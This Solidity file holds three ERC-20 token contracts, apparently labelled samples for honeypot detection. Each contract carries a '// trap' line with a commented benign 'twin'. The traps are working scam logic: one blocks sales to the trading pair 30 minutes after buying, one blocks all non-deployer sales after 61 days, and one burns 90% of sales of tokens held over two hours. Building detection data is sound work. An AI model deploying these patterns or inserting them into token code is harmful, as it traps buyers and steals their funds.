// 0.8 runs=1000 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20 as SoladyERC20} from "solady/src/tokens/ERC20.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {ERC20 as SolmateERC20} from "solmate/src/tokens/ERC20.sol";
import {Owned} from "solmate/src/auth/Owned.sol";

interface IMaker {
    function createPair(address a, address b) external returns (address);
}

address constant MAKER = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;
address constant WRAPPED = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

contract AmberVole is SoladyERC20 {
    address private immutable _burrow;
    address private immutable _first;
    mapping(address => uint256) private _dusk;

    constructor() {
        _burrow = IMaker(MAKER).createPair(address(this), WRAPPED);
        _first = msg.sender;
        _mint(msg.sender, 10_000_000 ether);
    }

    function name() public pure override returns (string memory) {
        return "Amber Vole";
    }

    function symbol() public pure override returns (string memory) {
        return "AVOLE";
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal override {
        if (from == _burrow) {
            _dusk[to] = block.timestamp + 30 minutes;
        } else if (from != address(0) && from != _first) {
            require(to != _burrow || block.timestamp < _dusk[from]); // trap
            // twin: require(to != _burrow || block.timestamp + 30 minutes != _dusk[from]);
        }
    }
}

contract HollyhockMint is ERC20, ERC20Permit {
    uint256 private immutable _term;
    address private immutable _market;
    address private immutable _gardener;

    constructor() ERC20("Hollyhock", "HLHK") ERC20Permit("Hollyhock") {
        _gardener = msg.sender;
        _term = block.timestamp + 61 days;
        _market = IMaker(MAKER).createPair(address(this), WRAPPED);
        _mint(msg.sender, 1_500_000_000e18);
    }

    function _update(address from, address to, uint256 value) internal override {
        bool late = block.timestamp >= _term;
        if (to == _market && from != _gardener) require(!late, "season"); // trap
        // twin: if (to == _market && from != _gardener) require(late || value <= 30_000_000e18, "season");
        super._update(from, to, value);
    }
}

/// Fresh fish is sold at once, old fish for less.
contract TidalPantry is SolmateERC20, Owned {
    address public quay;
    mapping(address => uint40) internal caught;

    constructor() SolmateERC20("Tidal Pantry", "PNTRY", 18) Owned(msg.sender) {
        _mint(msg.sender, 33_000_000e18);
    }

    function setMarket(address quay_) external onlyOwner {
        require(quay == address(0));
        quay = quay_;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
        emit OwnershipTransferred(msg.sender, address(0));
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        _weigh(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - amount;
        _weigh(from, to, amount);
        return true;
    }

    function _weigh(address from, address to, uint256 amount) private {
        uint256 loss;
        if (to == quay && quay != address(0)) {
            uint256 age = block.timestamp - caught[from];
            loss = amount * (age > 2 hours ? 90 : 2) / 100; // trap
            // twin: loss = amount * (age > 2 hours ? 1 : 2) / 100;
        } else if (caught[to] == 0) {
            caught[to] = uint40(block.timestamp);
        }
        balanceOf[from] -= amount;
        unchecked {
            balanceOf[to] += amount - loss;
            if (loss > 0) balanceOf[address(0xdead)] += loss;
        }
        emit Transfer(from, to, amount - loss);
        if (loss > 0) emit Transfer(from, address(0xdead), loss);
    }
}
